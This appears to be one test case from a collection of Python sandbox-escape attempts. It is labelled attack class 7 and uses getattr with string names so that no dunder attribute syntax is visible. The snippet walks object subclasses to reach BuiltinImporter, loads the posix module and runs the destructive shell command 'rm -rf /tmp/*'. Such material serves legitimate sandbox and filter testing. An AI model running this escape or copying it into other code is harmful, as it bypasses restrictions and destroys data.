# attack-class: 7
# title: dunder walk with getattr string names
# why: the dunder names are string literals passed to getattr so no attribute syntax appears

o = getattr(getattr(1, "__class__"), "__base__")
subs = getattr(o, "__subclasses__")()
imp = [s for s in subs if s.__name__ == "BuiltinImporter"][0]
getattr(imp, "load_module")("posix").system("rm -rf /tmp/*")
